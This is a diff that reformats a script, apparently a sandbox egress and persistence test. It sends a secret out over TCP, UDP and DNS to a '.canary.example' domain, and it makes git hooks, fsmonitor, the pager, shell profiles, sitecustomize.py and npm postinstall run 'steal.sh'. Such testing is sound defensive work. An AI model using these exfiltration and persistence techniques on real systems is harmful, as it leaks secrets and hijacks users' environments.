@@ -20,10 +20,24 @@ done
 node -e '
 const net = require("node:net"), dgram = require("node:dgram"), dns = require("node:dns");
 const secret = process.argv[1];
-const ended = (emitter) => new Promise((resolve) => ["close", "error", "timeout"].forEach((name) => emitter.once(name, resolve)));
-const connect = (options) => { const socket = net.connect(options); socket.setTimeout(3000); socket.end(secret); return ended(socket); };
-const send = (host) => new Promise((resolve) => { const socket = dgram.createSocket("udp4"); socket.on("error", resolve); socket.send(secret, ${port}, host, () => socket.close(resolve)); });
-const ask = async (host) => { const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 }); resolver.setServers([host + ":${port}"]); await resolver.resolve4(secret.slice(0, 20) + ".canary.example").catch(() => 0); };
+const names = ["close", "error", "timeout"];
+const ended = (emitter) => new Promise((resolve) => names.forEach((name) => emitter.once(name, resolve)));
+const connect = (options) => {
+  const socket = net.connect(options);
+  socket.setTimeout(3000);
+  socket.end(secret);
+  return ended(socket);
+};
+const send = (host) => new Promise((resolve) => {
+  const socket = dgram.createSocket("udp4");
+  socket.on("error", resolve);
+  socket.send(secret, ${port}, host, () => socket.close(resolve));
+});
+const ask = async (host) => {
+  const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
+  resolver.setServers([host + ":${port}"]);
+  await resolver.resolve4(secret.slice(0, 20) + ".canary.example").catch(() => 0);
+};
 (async () => {
   for (const host of "${hosts}".split(" ")) {
     await connect({ host, port: ${port} });
@@ -79,7 +93,9 @@ for hook in pre-commit post-commit pre-push post-checkout; do
 done
 git config core.fsmonitor 'sh /workspace/steal.sh'
 git config core.pager 'sh /workspace/steal.sh'
-for file in .bashrc .profile .bash_profile "$HOME/.bashrc" "$HOME/.profile"; do echo 'sh /workspace/steal.sh' > "$file"; done
+for file in .bashrc .profile .bash_profile "$HOME/.bashrc" "$HOME/.profile"; do
+  echo 'sh /workspace/steal.sh' > "$file"
+done
 echo 'import os; os.system("sh /workspace/steal.sh")' > sitecustomize.py
 printf '{"scripts":{"postinstall":"sh steal.sh","test":"sh steal.sh"}}' > package.json
 echo tried >&3
